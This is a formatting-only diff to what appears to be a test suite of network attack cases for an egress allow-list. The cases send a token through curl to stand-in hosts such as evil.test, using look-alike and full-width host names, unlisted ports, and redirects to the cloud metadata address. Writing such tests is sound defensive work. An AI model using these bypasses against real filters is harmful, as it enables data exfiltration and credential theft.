@@ -21,7 +21,8 @@ export const nameCases: readonly AttackCase[] = [
     attack: 35,
     title: "An allowed host on a port that no rule names",
     protection: "rules name ports; 80 and 443 where they do not",
-    program: ({ token, target }) => curl(target, [`https://allowed.test:8443/${token}`, `http://allowed.test:8080/${token}`]),
+    program: ({ token, target }) =>
+      curl(target, [`https://allowed.test:8443/${token}`, `http://allowed.test:8080/${token}`]),
   }),
   networkAttack({
     ...both,
@@ -30,7 +31,8 @@ export const nameCases: readonly AttackCase[] = [
     title: "The apex of a wildcard, and names that begin or end like an allowed one",
     protection: exactRules,
     program: ({ token, target }) =>
-      curl(target, 
+      curl(
+        target,
         ["second.test", "xallowed.test", "sub.allowed.test", "allowed.test.evil.test"].map(
           (host) => `http://${host}/${token}`,
         ),
@@ -43,7 +45,10 @@ export const nameCases: readonly AttackCase[] = [
     title: "An unlisted host in capitals, with a trailing dot, in full-width letters",
     protection: exactRules,
     program: ({ token, target }) =>
-      curl(target, ["EVIL.TEST", "evil.test.", "ｅvil.test", "evil。test"].map((host) => `http://${host}/${token}`)),
+      curl(
+        target,
+        ["EVIL.TEST", "evil.test.", "ｅvil.test", "evil。test"].map((host) => `http://${host}/${token}`),
+      ),
   }),
   networkAttack({
     ...both,
@@ -52,7 +57,8 @@ export const nameCases: readonly AttackCase[] = [
     title: "A redirect from an allowed host to an unlisted one and to the metadata service",
     protection: "each request is judged for itself",
     program: ({ token, target }) =>
-      curl(target, 
+      curl(
+        target,
         [`http://evil.test/${token}`, `http://169.254.169.254/${token}`].map(
           (to) => `http://allowed.test/?redirect=${encodeURIComponent(to)}`,
         ),
